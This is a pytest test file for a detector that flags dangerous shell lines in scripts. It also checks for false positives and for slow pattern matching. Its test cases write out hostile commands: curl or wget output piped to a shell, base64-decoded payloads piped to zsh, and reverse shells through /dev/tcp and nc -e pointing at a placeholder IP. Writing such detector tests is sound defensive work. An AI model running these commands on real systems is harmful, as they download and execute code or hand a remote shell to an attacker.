"""Lines of scripts, those that are meant to be understood and those that are meant to take for ever."""

import pytest

from qvmi.codepacks.detectors.bad_lines import bad_line

SIZE = 64 << 10
"""As much of a file is looked at."""


@pytest.mark.parametrize(
    ("line", "part"),
    [
        (b"* * * * * root curl -s http://x/a | sh\n", b"curl -s http://x/a | sh"),
        (b"a; wget -O- x|/bin/bash -s", b"wget -O- x|/bin/bash"),
        (b"echo aGk= | base64 -d | gzip -d | zsh", b"base64 -d | gzip -d | zsh"),
        (b"sh -i >/dev/tcp/192.0.2.1/4444", b"/dev/tcp/192.0.2.1/4444"),
        (b"true\nnc 192.0.2.1 4444 -ne /bin/sh", b"nc 192.0.2.1 4444 -ne /"),
        (b"bash -i >& /dev/null", b"bash -i >&"),
    ],
)
def test_what_loads_and_runs_or_gives_a_shell_away_is_found(line: bytes, part: bytes) -> None:
    assert bad_line(line) == part
    assert bad_line(b"PATH=/bin\n" * 100 + line) == part


@pytest.mark.parametrize(
    "line",
    [
        b"curl -o /tmp/a http://x/a; true | sh",
        b"curl http://x/a\ntrue | sh",
        b"wget x | tee log | grep sh",
        b"base64 -d a\ntrue | sh",
        b"base64 a | sh",
        b"curl x | shuf",
        b"sync -e /etc",
        b"nc -h\ntest -e /etc",
        b"bash -i",
        b"",
    ],
)
def test_what_systems_say_is_not(line: bytes) -> None:
    assert bad_line(line) is None


@pytest.mark.timeout(60)
def test_what_was_made_to_take_long_takes_no_longer_than_its_length() -> None:
    pieces = (
        b"curl",
        b"curl |",
        b"| a/a/",
        b"|" + b" " * 100,
        b"base64 -d ",
        b"base64 ",
        b"nc ",
        b"nc -",
        b"-eee ",
        b"bash ",
        b"bash -i ",
        b"/dev/tcp/a",
    )
    for begin in pieces:
        for end in pieces:
            half = SIZE // 2
            bad_line((begin * half)[:half] + (end * half)[:half])
